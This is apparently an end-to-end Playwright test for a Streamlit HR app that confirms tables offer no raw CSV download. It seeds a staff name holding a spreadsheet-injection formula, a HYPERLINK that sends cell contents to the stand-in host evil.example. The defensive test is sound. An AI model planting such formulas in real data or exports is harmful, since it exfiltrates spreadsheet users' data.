"""Tables offer no raw download in a real browser: HR's staff table holds a name a spreadsheet
would run as a formula, and its toolbar offers search and full screen but not Streamlit's
own "Download as CSV" (which writes cells raw). The control run, with the export switched
back on, shows the button where the test looks for it."""

import pytest
from playwright.sync_api import expect
from sqlalchemy import select, update

from ee_app.db import make_engine, write_session
from ee_app.models import Staff
from tests.e2e.conftest import screenshot
from tests.e2e.streamlit_ui import wait_idle

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'


@pytest.mark.parametrize(
    ("env", "offered"),
    [
        pytest.param({}, False, id="app-configuration"),
        pytest.param({"STREAMLIT_CLIENT_DISABLE_DATA_EXPORT": "false"}, True, id="control"),
    ],
)
def test_no_table_offers_streamlits_raw_csv_download(start_app, new_page, env, offered):
    app = start_app(env=env)
    engine = make_engine(app.database_url)
    with write_session(engine) as session:
        first = session.scalar(select(Staff.id).order_by(Staff.employee_no))
        session.execute(update(Staff).where(Staff.id == first).values(name=HOSTILE))
        session.commit()
    engine.dispose()

    page = new_page()
    page.goto(f"{app.url}/org")  # the demo identity is HR by default
    wait_idle(page)
    table = page.get_by_test_id("stDataFrame").first
    expect(table).to_be_visible()
    table.hover()
    toolbar = page.get_by_test_id("stElementToolbar").first
    expect(toolbar.get_by_role("button", name="Search")).to_be_visible()
    download = toolbar.get_by_role("button", name="Download as CSV")
    if offered:
        expect(download).to_be_visible()
        return
    expect(download).to_have_count(0)
    screenshot(page, "08-table-toolbar-no-download")
